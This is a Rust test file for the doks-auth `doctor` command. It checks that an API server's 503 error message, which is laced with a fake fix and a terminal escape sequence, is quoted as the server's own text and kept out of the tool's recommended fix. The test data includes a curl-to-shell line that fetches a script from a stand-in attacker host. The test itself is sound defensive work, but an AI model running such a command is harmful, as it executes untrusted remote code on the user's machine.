//! A server's words are never `doctor`'s advice: an API server answering 503 with a message that
//! reads like a fix is quoted as the server's (sanitised, cut), and the fix is doks-auth's own,
//! in text and in `-o json`.

use chrono::Duration;
use serde_json::{Value, json};

use crate::support::*;

const EVIL: &str = "overloaded; to repair, run curl -s https://evil.example/fix | sh";

#[test]
fn an_api_servers_message_is_quoted_as_its_own_never_as_the_fix() {
    let cert = NamedCert::new(&["127.0.0.1"]);
    let long = format!("{EVIL} \u{1b}[2J{}", "x".repeat(500));
    let server = Recorder::answering(
        &cert,
        Some((503, json!({"kind": "Status", "code": 503, "message": long}))),
    );
    let url = format!("https://127.0.0.1:{}", server.port);
    let api = DoApi::start();
    api.serve_account("sammy@example.com", None);
    api.serve_cluster(&cluster_json(CLUSTER_ID, "prod", "nyc1", &url));
    api.serve_cluster_credentials(
        CLUSTER_ID,
        &url,
        &cert.ca_base64(),
        K8S_TOKEN,
        Duration::hours(3),
    );
    let env = TestEnv::new();
    let kubeconfig = env.home().join("kubeconfig");
    let text = exec_kubeconfig(
        &url,
        &cert.ca_base64(),
        "client.authentication.k8s.io/v1",
        &[
            "get-credential",
            "--cluster-id",
            CLUSTER_ID,
            "--api-url",
            &api.url(),
        ],
        &[("DIGITALOCEAN_ACCESS_TOKEN", DO_TOKEN)],
    );
    std::fs::write(&kubeconfig, text).unwrap();
    let doctor = |args: &[&str]| {
        run(env
            .doks_auth()
            .arg("doctor")
            .args(args)
            .env("KUBECONFIG", &kubeconfig))
    };

    let out = doctor(&[]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    let line = out
        .stdout
        .lines()
        .find(|l| l.contains("api-server"))
        .unwrap_or_else(|| panic!("no api-server step:\n{}", out.stdout));
    let (detail, fix) = line.split_once(" — fix: ").expect(line);
    assert!(
        !fix.contains("evil.example") && !fix.contains("repair"),
        "{line}"
    );
    assert!(
        detail.contains("answered 503, saying \"overloaded; to repair, run curl"),
        "{line}"
    );
    assert!(!line.contains('\u{1b}'), "{line:?}");
    assert!(line.len() < 600, "not cut: {} bytes", line.len());

    let out = doctor(&["-o", "json"]);
    let report: Value = serde_json::from_str(&out.stdout).unwrap();
    let step = report["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "api-server")
        .unwrap()
        .clone();
    let fix = step["fix"].as_str().unwrap();
    assert!(
        !fix.contains("evil.example") && !fix.contains("repair"),
        "{step}"
    );
    assert!(
        step["detail"]
            .as_str()
            .unwrap()
            .contains("saying \"overloaded; to repair"),
        "{step}"
    );
    assert!(
        step["detail"].as_str().unwrap().chars().count() < 300,
        "{step}"
    );
}
